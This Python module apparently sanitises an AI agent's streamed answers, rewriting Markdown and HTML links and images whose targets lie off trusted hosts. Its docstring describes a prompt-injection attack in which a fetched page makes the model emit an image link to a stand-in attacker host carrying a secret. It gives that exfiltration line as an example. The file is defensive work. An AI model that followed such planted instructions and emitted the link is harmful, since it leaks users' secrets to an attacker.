"""Links and images in answers, made inert unless they point at a trusted host.

A page fetched by a tool can tell the model to put `![x](https://evil.example/?q=<secret>)`
in its answer; a client that renders it sends the secret away without a click. So
before an answer is streamed or stored, every Markdown image and link (inline,
reference definitions, autolinks) and every raw HTML tag with a URL attribute
(`<img src>`, `<a href>`...) whose target is off the trusted hosts
(`TOOL_HTTP_ALLOWLIST` and `ORCHESTRATOR_ANSWER_LINK_HOSTS`) is rewritten, in
forms that hold no `[`, `]` or `<`, so no rewrite can become a link again:

- an image becomes `(image: alt)`, or `(image)` without alt text;
- a link keeps its text and shows the host: `text (evil.example)`;
- an autolink, a reference definition or another tag becomes `(evil.example)`
  (the definition keeps its label: `label: (evil.example)`).

Relative targets (same origin) stay; a scheme other than http(s) counts as off
the list and shows as `scheme:`. Bare URLs are left as they are: they show their
whole target and rendering them fetches nothing.

Tokens arrive in pieces, so `AnswerLinks` holds back only text from a `!`, `[` or
`<` that may still become one of these, at most `MAX_HOLD` characters, and lets
the rest through at once. Every decision depends on the text alone, never on how
it was split: any split gives the output of the whole text. A construct longer
than `MAX_HOLD` is not waited for: its opening bracket is escaped instead.
"""

from __future__ import annotations

import html
from collections.abc import Sequence
from urllib.parse import urlsplit

import regex

from agent_common.tools.hosts import host_allowed

MAX_HOLD = 2048  # characters held back at most; longer than any URL a browser sends

# Link text: no blank line, brackets nested one level (`[a [b] c](...)`).
_TEXT = r"(?P<text>(?:[^\[\]\n]|\n(?![ \t]*\n)|\[[^\[\]\n]*\])*)"
_DESTINATION = r"(?P<dest><[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)"
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?"""
_INLINE = regex.compile(r"(?P<bang>!?)\[" + _TEXT + r"\]\(\s*" + _DESTINATION + _TITLE + r"\s*\)")
_DEFINITION = regex.compile(r"\[(?P<text>[^\[\]\n]+)\]:[ \t]*\n?[ \t]*(?P<dest><[^<>\n]*>|\S+)")
_AUTOLINK = regex.compile(r"<(?P<dest>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
_TAG = regex.compile(r"<(?P<name>[a-zA-Z][a-zA-Z0-9-]*)(?P<attrs>(?:\s[^<>]*)?)/?>")
_URL_ATTRIBUTE = regex.compile(
    r"""\b(?P<name>href|src|srcset|poster|action|formaction|background|data|cite|xlink:href)\s*=\s*"""
    r"""(?:"(?P<v1>[^"]*)"|'(?P<v2>[^']*)'|(?P<v3>[^\s"'>]+))""",
    regex.IGNORECASE,
)
_ALT = regex.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))""", regex.IGNORECASE)
_BACKSLASH_ESCAPE = regex.compile(r"\\([!-/:-@\[-`{-~])")
_PATTERNS = {"!": (_INLINE,), "[": (_INLINE, _DEFINITION), "<": (_AUTOLINK, _TAG)}
_ESCAPED = {"!": "!", "[": "\\[", "<": "&lt;"}
_UNSAFE_IN_TEXT = str.maketrans("", "", "[]<>()")


class AnswerLinks:
    """A streaming filter: `feed` each piece, then `close`; what they return is what may be shown."""

    def __init__(self, trusted_hosts: Sequence[str]) -> None:
        self._trusted = list(trusted_hosts)
        self._held = ""

    def feed(self, text: str) -> str:
        self._held += text
        out, self._held = self._scan(self._held, final=False)
        return out

    def close(self) -> str:
        out, self._held = self._scan(self._held, final=True)
        return out

    def _scan(self, text: str, *, final: bool) -> tuple[str, str]:
        """What of `text` can be shown now, and what is held back (`final`: nothing more comes)."""
        out: list[str] = []
        i = 0
        while (j := _next_start(text, i, final=final)) >= 0:
            out.append(text[i:j])
            decision = self._decide(text, j, final=final)
            if decision is None:  # may still become a link: wait for more text
                return "".join(out), text[j:]
            replacement, end = decision
            out.append(replacement)
            i = end
        out.append(text[i:])
        return "".join(out), ""

    def _decide(self, text: str, j: int, *, final: bool) -> tuple[str, int] | None:
        """What the construct that may start at `j` becomes and where it ends; None: not known yet.

        Decided on `text[j : j + MAX_HOLD]` alone, and on whether text goes on past it."""
        endpos = min(len(text), j + MAX_HOLD)
        truncated = len(text) > endpos  # the window is full and more follows: too long to wait for
        known = final or truncated  # the window's text is all there will be of it
        found: tuple[str, int] | None = None
        too_long = False
        for pattern in _PATTERNS[text[j]]:
            match = pattern.match(text, j, endpos, partial=True)
            if match is None:
                continue
            if not match.partial and (match.end() < endpos or (final and not truncated)):
                found = found or (self._rewrite(pattern, match), match.end())
            elif not known:
                return None
            elif truncated:
                too_long = True
        if found is not None:
            return found
        if too_long:  # the bracket is escaped: it opens nothing
            return _ESCAPED[text[j]], j + 1
        return text[j], j + 1  # not a construct: the character is text

    def _rewrite(self, pattern: regex.Pattern[str], match: regex.Match[str]) -> str:
        whole = match.group(0)
        if pattern is _TAG:
            values = [v for m in _URL_ATTRIBUTE.finditer(match["attrs"]) for v in _attribute_urls(m)]
            blocked = [shown for shown in (self._blocked(v) for v in values) if shown is not None]
            if not blocked:
                return whole
            if match["name"].lower() == "img":
                alt = next((g for m in _ALT.finditer(match["attrs"]) for g in m.groups() if g), "")
                return _image(html.unescape(alt))
            return f"({blocked[0]})"
        shown = self._blocked(match["dest"])
        if pattern is _AUTOLINK:
            return whole if shown is None else f"({shown})"
        if pattern is _DEFINITION:
            return whole if shown is None else f"{match['text'].translate(_UNSAFE_IN_TEXT)}: ({shown})"
        if match["bang"]:
            return whole if shown is None else _image(match["text"])
        text = _whole(self._trusted, match["text"])
        if shown is None:
            return "[" + text + whole[match.end("text") - match.start() :]
        return f"{text} ({shown})" if text.strip() else f"({shown})"

    def _blocked(self, destination: str) -> str | None:
        """None when `destination` may stay a link; else what to show instead of it."""
        url = _BACKSLASH_ESCAPE.sub(r"\1", html.unescape(destination.strip().strip("<>"))).strip()
        url = "".join(ch for ch in url if ch >= " " and ch != "\x7f")  # browsers drop tabs and newlines
        try:
            parts = urlsplit(url)
        except ValueError:
            return "link"
        host = parts.hostname or ""
        if parts.scheme in ("http", "https", "") and host:
            return None if host_allowed(host, self._trusted) else host
        if not parts.scheme and not parts.netloc:  # relative: the same origin
            return None
        return host or f"{parts.scheme}:"


def neutralise(trusted_hosts: Sequence[str], text: str) -> str:
    """A whole text, filtered."""
    return _whole(trusted_hosts, text)


def _whole(trusted_hosts: Sequence[str], text: str) -> str:
    links = AnswerLinks(trusted_hosts)
    return links.feed(text) + links.close()


def _next_start(text: str, i: int, *, final: bool) -> int:
    """Where the next construct may start: `![`, `[`, `<`, or a last `!` whose `[` is still to come."""
    starts = [k for k in (text.find("![", i), text.find("[", i), text.find("<", i)) if k >= 0]
    if not final and text.endswith("!") and len(text) - 1 >= i:
        starts.append(len(text) - 1)
    return min(starts, default=-1)


def _image(alt: str) -> str:
    alt = " ".join(alt.translate(_UNSAFE_IN_TEXT).split())
    return f"(image: {alt})" if alt else "(image)"


def _attribute_urls(match: regex.Match[str]) -> list[str]:
    value = next((g for g in (match["v1"], match["v2"], match["v3"]) if g is not None), "")
    if match["name"].lower() == "srcset":  # `url 1x, url 2x`
        return [part.split()[0] for part in value.split(",") if part.split()]
    return [value]
